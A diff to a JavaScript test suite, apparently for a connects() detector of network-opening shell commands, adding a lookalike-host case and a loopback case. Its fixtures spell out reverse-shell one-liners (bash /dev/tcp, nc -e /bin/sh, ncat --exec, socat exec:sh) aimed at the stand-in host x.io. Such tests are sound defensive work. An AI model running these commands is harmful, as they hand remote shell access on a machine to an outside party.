@@ -120,6 +120,7 @@ describe('connects()', () => {
     'bash -i >& /dev/tcp/x.io/99 0>&1',
     'exec 5<>/dev/tcp/x.io/99',
     'cat </dev/udp/x.io/99',
+    'cat </dev/tcp/127.0.0.1.x.io/99',
     'nc -e /bin/sh x.io 99',
     'ncat --exec cmd.exe x.io 99',
     'socat exec:sh tcp:x.io:99',
@@ -133,6 +134,7 @@ describe('connects()', () => {
     'nc -l 99',
     'socat tcp-listen:80 tcp:x.io:80',
     'echo /dev/tcp/x.io/99',
+    'cat </dev/tcp/127.0.0.1/99',
     'bash -i',
     'curl x.io',
   ])('%s does not', (text) => {
